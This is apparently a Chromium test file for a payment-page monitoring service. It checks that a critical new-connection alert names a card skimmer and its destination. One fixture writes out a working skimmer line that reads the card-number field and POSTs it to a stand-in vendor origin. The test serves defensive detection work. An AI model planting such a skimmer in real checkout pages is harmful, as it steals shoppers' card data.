import { eventually } from '@pss/testkit';
import { describeInChromium, serviceInChromium, WAIT } from './service-in-chromium';

const CARD = '4111111111111111';

describeInChromium('outbound connections of a payment page, in Chromium', () => {
  const rig = serviceInChromium(['stores:read', 'stores:write', 'scripts:read', 'alerts:read']);

  const checkout = (snippet: string, scripts: string) =>
    `<!doctype html><html><head>${snippet}</head><body><form><input id="cc" name="cardnumber" autocomplete="cc-number" value="${CARD}"></form>${scripts}</body></html>`;
  const newConnections = (alerts: any[]) => alerts.filter((alert) => alert.type === 'NEW_CONNECTION');

  it('raises a critical NEW_CONNECTION naming the skimmer and the destination when a script reads the card field and posts it out', async () => {
    const { fixtures } = rig;
    const store = await rig.service.createStore(rig.token);
    const cart = fixtures.url('/outbound/cart', 'other');
    const shop = fixtures.url('/outbound/shop.js', 'other');
    const skimmer = fixtures.url('/outbound/skim.js', 'vendor');
    const destination = new URL(fixtures.url('/', 'vendor')).origin;
    fixtures.script('/outbound/shop.js', `setTimeout(function () { fetch(${JSON.stringify(cart)}, { mode: 'no-cors' }); }, 100);`, { cors: true });
    fixtures.script(
      '/outbound/skim.js',
      `setTimeout(function () { fetch(${JSON.stringify(`${destination}/collect`)}, { method: 'POST', mode: 'no-cors', body: document.getElementById('cc').value }); }, 200);`,
      { cors: true },
    );

    // The shop's own call to its cart service: a destination never seen, but no card-field read by a stranger.
    const first = await rig.visit(fixtures.page('/outbound/checkout', checkout(rig.synchronousTag(store), `<script src="${shop}"></script>`)));
    const [usual] = newConnections(await rig.alertsUntil(store.id, (found) => newConnections(found).length > 0));
    expect(usual).toMatchObject({ source: new URL(cart).origin, severity: 'high', details: expect.objectContaining({ via: 'fetch', initiator: shop, sensitive_read: null }) });
    await first.page.browserContext().close();

    // Then a skimmer joins the checkout: it reads the card number and posts it to its own server.
    const second = await rig.visit(fixtures.page('/outbound/checkout', checkout(rig.synchronousTag(store), `<script src="${shop}"></script><script src="${skimmer}"></script>`)));
    const alerts = newConnections(await rig.alertsUntil(store.id, (found) => newConnections(found).length > 1));
    const skimmed = alerts.find((alert) => alert.source === destination);
    expect(skimmed).toMatchObject({
      severity: 'critical',
      status: 'open',
      page: '/outbound/checkout',
      details: expect.objectContaining({ origin: destination, via: 'fetch', initiator: skimmer, sensitive_read: expect.objectContaining({ src: skimmer, field: 'card_number' }) }),
    });
    expect(alerts).toHaveLength(2); // the cart service, seen before, is no new connection

    // The inventory lists both destinations with what initiated them; the card number left the page only in the skimmer's own request.
    const listed = await eventually(
      async () => (await rig.service.request('GET', `/api/v1/connections?store_id=${store.id}`, { token: rig.token })).body.data as any[],
      (found) => found.length === 2,
      WAIT,
    );
    expect(listed.find((connection) => connection.origin === destination)).toMatchObject({ via: ['fetch'], pages: ['/outbound/checkout'], initiators: [expect.objectContaining({ src: skimmer })] });
    expect(JSON.stringify([alerts, listed])).not.toContain(CARD);
    expect(second.errors).toEqual([]);
    await second.page.browserContext().close();
  }, 90_000);
});
